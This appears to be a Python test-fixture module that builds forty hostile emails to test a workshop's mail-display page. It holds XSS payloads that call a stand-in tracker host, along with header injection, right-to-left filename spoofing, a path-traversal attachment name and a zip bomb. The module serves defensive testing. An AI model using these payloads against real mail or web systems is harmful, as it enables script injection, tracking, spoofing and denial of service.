"""Forty mails that mean harm, as they would come in: each tries something that a page must not let happen.

Kinds of attack after the OWASP cheat sheets "XSS Filter Evasion" and "File Upload", the Unicode Consortium's UTR 36
(turning characters) and RFC 5322, 2.2 (header lines). All addresses are invented.
"""

# ruff: noqa: E501  (a mail that means harm is as long as it is)

from __future__ import annotations

import io
import zipfile
from base64 import b64encode
from functools import cache

RUN = "window.hostile=1;fetch('http://tracker.example/ran');alert('ran')"
AWAY = "http://tracker.example/seen.gif"

HTML = {
    "script": f"<p>My cart is dead</p><script>{RUN}</script>",
    "script-src": "<script src='http://tracker.example/x.js'></script><p>Cart hums</p>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt><p>Cart clicks</p>",
    "script-unclosed": f"<p>Cart stops<script>{RUN}",
    "img-onerror": f'<p>Charger hums</p><img src=x onerror="{RUN}">',
    "img-remote": f"<p>See the picture</p><img src='{AWAY}' width=1 height=1>",
    "img-srcset": f"<img srcset='{AWAY} 1x, {AWAY}?2 2x'><p>Which tyre is this?</p>",
    "svg-onload": f'<svg onload="{RUN}"><script>{RUN}</script></svg><p>It smells</p>',
    "svg-use": "<svg><use href='http://tracker.example/x.svg#a'/></svg><p>It smells of acid</p>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></mtext></math><p>48 V?</p>",
    "javascript-link": f"<a href=\"javascript:{RUN}\">My 2012 Lark will not move</a>",
    "javascript-tab": "<a href='java&#9;script:alert(1)'>Which battery?</a>",
    "data-link": f"<a href='data:text/html,<script>{RUN}</script>'>the photo of the plate</a>",
    "iframe": "<iframe src='http://tracker.example/'></iframe><p>Will it fit?</p>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><p>Will it fit a Ridge?</p>',
    "object-embed": "<object data='http://tracker.example/x'></object><embed src='http://tracker.example/y'><p>Hums</p>",
    "form": "<form action='http://tracker.example/'><input name=password autofocus onfocus=alert(1)><button>Go</button></form>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://tracker.example/'><p>Runs slow</p>",
    "base": "<base href='http://tracker.example/'><p>Runs slow uphill</p><a href='x'>x</a>",
    "css-url": f"<style>body{{background:url({AWAY})}}@import 'http://tracker.example/x.css';</style><p>Brakes squeal</p>",
    "css-cover": "<div style='position:fixed;inset:0;background:url(http://tracker.example/c)'>Sign in again</div>",
    "link-stylesheet": "<link rel=stylesheet href='http://tracker.example/x.css'><link rel=prefetch href='http://tracker.example/p'><p>Dead</p>",
    "template": f"<p>{{{{ 7*7 }}}} {{% for x in ().__class__.__mro__ %}} ${{7*7}} <%= 7*7 %></p><template><img src=x onerror={RUN}></template>",
    "broken": "<p <b <<>><table><tr><td></p></b><![CDATA[<script>alert(1)</script>]]><!--><img src=x onerror=alert(1)>--> stops",
    "htmx": f"<div hx-get='http://tracker.example/' hx-trigger='load' hx-on:load=\"{RUN}\" data-hx-get='/x' hx-vals='js:{{a:alert(1)}}'>It clicks</div>",
    "audio-video": "<video src='http://tracker.example/v' autoplay></video><audio src='http://tracker.example/a' autoplay></audio><p>It whines</p>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62; my 36 V cart",
    "deep": "<div>" * 20_000 + "It jerks" + "</div>" * 20_000,
}  # fmt: skip
PLAIN = {
    "plain-script": f'</textarea></p><script>{RUN}</script><img src=x onerror="{RUN}"> my cart will not charge',
    "attribute-break": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x=" 48 V Lark hums \' onclick=\'alert(1)',
    "huge-line": "x" * 400_000 + " my 2012 Lark clicks",
    "huge-marks": "<" * 50_000 + "&" * 50_000 + " battery is flat",
    "turned-around": "The plate says \u202eV 84\u202c and \u2067the file is \u202egpj.exe, my 2012 Lark clicks\u2066",
    "controls": "It \x00stops \x1b[31mred\x1b[0m \x08\x08 at \ufeff\u200b36\u2060 V\r\rand \x85 again",
    "markup-in-fact": "My cart is a <script>alert(1)</script> 2012 Lark with 48<img src=x onerror=alert(1)>V and 205/50-10 tyres",
}


def mail(name: str, body: str, kind: str = "html", head: str = "") -> bytes:
    """One mail with its body in base64, so that nothing of it is changed on the way."""
    fields = (
        head
        or f"From: =?utf-8?q?=3Cb=3E{name}=22=27=3E?= <{name}@mail.example>\r\nSubject: <img src=x onerror=alert(1)> {name}"
    )
    return (
        f"{fields}\r\nTo: workshop@harrowlane.example\r\nDate: Tue, 24 Nov 2026 08:00:00 +0000\r\n"
        f"Message-ID: <{name}@mail.example>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/{kind}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + b64encode(body.encode())


HEADS = {
    "header-injection": (
        "From: =?utf-8?q?Eve=0D=0ABcc=3A_victim=40mail.example?= <header-injection@mail.example>\r\n"
        "Subject: =?utf-8?q?Cart=0D=0ABcc=3A_victim=40mail.example=0D=0AContent-Type=3A_text/html=0D=0A=0D=0A<script>?="
    ),
    "header-break": (
        'From: "</title><script>alert(1)</script>" <header-break@mail.example>\r\n'
        'Reply-To: "x" <"><script>alert(1)</script>@mail.example>\r\nSubject: </title></a></h1><script>alert(1)</script>'
    ),
    "header-turned": (
        "From: =?utf-8?b?" + b64encode("\u202elive ynnuf".encode()).decode() + "?= <header-turned@mail.example>\r\n"
        "Subject: =?utf-8?b?" + b64encode("\u202egnp.exe my cart stops".encode()).decode() + "?="
    ),
}


@cache
def zip_bomb() -> bytes:
    """200 MB of nothing in 200 kB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("big.txt", b"\0" * 200_000_000)
    return made.getvalue()


ATTACHED = (
    ("page.html", "text/html", f"<script>{RUN}</script>".encode()),
    ("run me.exe", "application/octet-stream", b"MZ\x90"),
    ("picture.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode()),
    ("invoice\u202egpj.exe", "image/jpeg", b"MZ\x90"),
    ("../../etc/cron.d/x.html", "text/html", b"<script>alert(1)</script>"),
    ('a"; filename="b.html\r\nSet-Cookie: x=1', "text/plain", b"text"),
    ("plate.jpg", "image/jpeg", b"\xff\xd8\xff\xe0 plate"),
)


def with_attachments(name: str, attached: tuple[tuple[str, str, bytes], ...]) -> bytes:
    """A mail with files, their names as RFC 2231 writes them."""
    parts = [_part("text/plain; charset=utf-8", "", b"My 2012 Lark clicks, see the files.")]
    parts += [_part(kind, file, data) for file, kind, data in attached]
    head = f"From: {name} <{name}@mail.example>\r\nSubject: files\r\nMessage-ID: <{name}@mail.example>\r\n"
    mime = 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="cut"\r\n\r\n'
    return (head + mime).encode() + b"".join(b"--cut\r\n" + part for part in parts) + b"--cut--\r\n"


def _part(kind: str, file: str, data: bytes) -> bytes:
    quoted = "".join(f"%{byte:02X}" for byte in file.encode())
    named = f"Content-Disposition: attachment; filename*=utf-8''{quoted}\r\n" if file else ""
    return (
        f"Content-Type: {kind}\r\n{named}Content-Transfer-Encoding: base64\r\n\r\n".encode() + b64encode(data) + b"\r\n"
    )


MAILS: dict[str, bytes] = {
    **{name: mail(name, body) for name, body in HTML.items()},
    **{name: mail(name, body, "plain") for name, body in PLAIN.items()},
    **{name: mail(name, "My 2012 Lark clicks.", "plain", head) for name, head in HEADS.items()},
    "attachments": with_attachments("attachments", ATTACHED),
    "zip-bomb": with_attachments("zip-bomb", (("photos.zip", "application/zip", zip_bomb()),)),
}
